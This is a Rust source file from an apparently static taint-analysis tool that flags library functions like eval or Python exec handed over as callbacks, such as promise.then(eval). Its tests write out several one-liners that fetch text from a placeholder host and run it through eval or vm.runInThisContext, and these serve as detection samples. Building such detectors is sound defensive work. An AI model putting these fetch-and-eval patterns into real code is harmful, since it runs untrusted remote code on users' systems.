//! Functions of the library that run what they get, handed to a call as they are:
//! `promise.then(eval)`.

use crate::flow::{Analysis, Site, is_foreign};
use crate::ir::{Expr, ExprId, Language, Program};
use crate::know::Role;
use crate::pure::Value;
use customs_model::{SinkKind, SourceKind, Target, Zone};
use std::rc::Rc;

/// Elements of a list that are looked at.
const ELEMENTS: usize = 16;

/// What is handed over.
pub(super) struct Handed {
    arg: ExprId,
    /// What the callback is called on.
    object: ExprId,
    path: Rc<str>,
    role: Role,
}

impl Analysis<'_> {
    /// The function of the library that a call calls back, where that one runs a text.
    pub(super) fn handed(
        &mut self,
        program: &Program,
        site: Site,
        callee: ExprId,
        args: &[ExprId],
    ) -> Option<Handed> {
        if program.language == Language::Python {
            return self.mapped(program, site, callee, args);
        }
        if program.language != Language::JavaScript {
            return None;
        }
        let Expr::Member(object, method) = program.expr(callee) else {
            return None;
        };
        let arg = *args.get(callback_of(program.name(method))?)?;
        if !matches!(program.expr(arg), Expr::Name(..) | Expr::Member(..)) {
            return None;
        }
        let Value::Native(native) = self.machine.fold(site.file, arg) else {
            return None;
        };
        let path = Rc::clone(&native.path);
        let role = self.role(program.language, &path);
        let runs = matches!(role, Role::Code(0) | Role::CodeLast | Role::Shell);
        // A timer gets what it waits for; a text is no such thing in Node.js.
        (runs && !path.starts_with("set")).then_some(Handed {
            arg,
            object,
            path,
            role,
        })
    }

    /// `map(exec, [text])` of Python, where the list is written out.
    fn mapped(
        &mut self,
        program: &Program,
        site: Site,
        callee: ExprId,
        args: &[ExprId],
    ) -> Option<Handed> {
        let [arg, object] = args[..] else {
            return None;
        };
        // Most calls are something else, which is seen without folding.
        if !matches!(program.expr(callee), Expr::Name(name, _) | Expr::Member(_, name)
            if matches!(program.name(name), "map" | "filter" | "submit"))
        {
            return None;
        }
        let called = self.machine.fold(site.file, callee);
        if !matches!(called.path()?, "map" | "filter" | "builtins.map") {
            return None;
        }
        written_out(program, object)?;
        let Value::Native(native) = self.machine.fold(site.file, arg) else {
            return None;
        };
        let path = Rc::clone(&native.path);
        let role = self.role(program.language, &path);
        matches!(role, Role::Code(0) | Role::Shell).then_some(Handed {
            arg,
            object,
            path,
            role,
        })
    }

    /// Looks at what such a function is called with.
    pub(super) fn called_back(
        &mut self,
        program: &Rc<Program>,
        site: Site,
        handed: &Handed,
        zone: Zone,
    ) {
        let path = &*handed.path;
        if let Some(items) = written_out(program, handed.object) {
            for item in items.into_iter().take(ELEMENTS) {
                match handed.role {
                    Role::Shell => self.shell_sink(program, site, path, &[item], zone, None),
                    _ => self.code_sink(program, site, path, item, zone, None),
                }
            }
            return;
        }
        let settled = self.machine.fold(site.file, handed.object);
        if let Some(text) = settled.known_text().filter(|_| handed.role != Role::Shell) {
            let place = self.place_of(site.file, site.expr);
            self.child_in(site.file, text, program.language, zone, place);
        }
        let labels = self.given_to_callback(site, 0);
        if labels.is_empty() {
            return;
        }
        if handed.role == Role::Shell {
            let labels = labels.into();
            self.started(program, site, path, handed.arg, None, labels, zone);
            return;
        }
        for label in labels.iter().filter(|label| is_foreign(label.kind)) {
            let target = match label.kind {
                SourceKind::Remote => Target::Constant(label.name.to_string()),
                _ => Target::Opaque,
            };
            let marks = self.pinned(label, site.file, Some((site.file, site.expr)));
            let (file, at) = (site.file, site.expr);
            let kind = SinkKind::DynamicCode;
            self.flow(label, kind, path, target, zone, file, at, marks);
        }
    }
}

/// The argument that a method calls with what it is called on or waits for.
fn callback_of(method: &str) -> Option<usize> {
    match method {
        "then" | "map" | "forEach" | "filter" | "flatMap" | "some" | "every" | "find"
        | "findIndex" | "findLast" | "findLastIndex" => Some(0),
        "on" | "once" | "addListener" | "prependListener" => Some(1),
        _ => None,
    }
}

/// The elements of a list that is written out, or of a variable's that is nothing else.
fn written_out(program: &Program, list: ExprId) -> Option<Vec<ExprId>> {
    let list = match program.expr(list) {
        Expr::Name(atom, scope) => {
            let symbol = program.resolve(atom, scope)?;
            let [only] = program.symbol(symbol).values[..] else {
                return None;
            };
            only
        }
        _ => list,
    };
    match program.expr(list) {
        Expr::Array(items) => Some(program.list(items).to_vec()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::testing::{remote_code, script};

    fn runs_remote_code(code: &str) -> bool {
        remote_code(script(code)).is_some()
    }

    #[test]
    fn what_is_handed_to_a_promise_an_event_or_a_list_gets_what_they_hold() {
        for call in [
            "fetch('https://a.invalid/b').then(r => r.text()).then(eval)",
            "fetch('https://a.invalid/b').then(r => r.text()).then(require('vm').runInThisContext)",
            "require('https').get('https://a.invalid/b', r => r.on('data', eval))",
            "fetch('https://a.invalid/b').then(r => r.text()).then(t => [t].map(eval))",
            "fetch('https://a.invalid/b').then(r => r.text()).then(t => [t].forEach(globalThis.eval))",
        ] {
            assert!(runs_remote_code(call), "{call}");
        }
    }

    #[test]
    fn what_is_handed_over_without_anything_foreign_is_quiet() {
        for call in [
            "['a', 'b'].map(require)",
            "['1 + 1'].map(eval)",
            "Promise.resolve('1 + 1').then(eval)",
            "fetch('https://a.invalid/b').then(r => r.text()).catch(eval)",
            "fetch('https://a.invalid/b').then(r => r.text()).then(setTimeout)",
            "fetch('https://a.invalid/b').then(r => r.text()).then(String)",
        ] {
            assert!(!runs_remote_code(call), "{call}");
        }
    }
}
